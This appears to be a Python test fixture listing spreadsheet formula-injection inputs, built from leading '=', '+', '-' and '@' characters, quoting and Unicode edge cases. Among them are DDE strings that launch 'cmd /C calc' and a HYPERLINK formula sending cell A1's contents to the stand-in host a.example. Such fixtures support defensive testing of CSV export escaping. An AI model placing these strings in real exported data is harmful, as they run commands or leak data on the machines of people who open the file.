"""Sixty texts that a spreadsheet might run, leave its cell with, or lose (R-EXP-01)."""

from typing import Final

_STARTS: Final = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
_BODIES: Final = ("1+1", 'HYPERLINK("http://a.example?"&A1;"x")', "cmd|' /C calc'!A0")
_BEFORE: Final = ("", "x;", "x,", 'x"', "x\n")
_OTHERS: Final = (
    " =1+1",
    "'=1+1",
    "''=1+1",
    "'",
    "''",
    "it's",
    '"',
    '""',
    '";"=1',
    "a\r\nb",
    "a\nb",
    "a\rb",
    "a;b",
    "a,b",
    "a|=b",
    "\n=1",
    "\n\n'=1",
    "-5",
    "+33 6 39 98 14 27",
    "O'Neill; -2 kg, =x",
    "<img src=x>",
    "🩺 Zoë 日本",
    "مريم",
    "\u202egnol\u202c",
    "\u2028=1",
    'DDE("cmd";"/C calc";"x")',
    "#REF!",
    "--",
    "@@",
    "0012",
)
PAYLOADS: Final = (
    *(f"{start}{body}" for start in _STARTS for body in _BODIES),
    *(f"{before}={_BODIES[0]}" for before in _BEFORE[1:]),
    *_OTHERS,
)
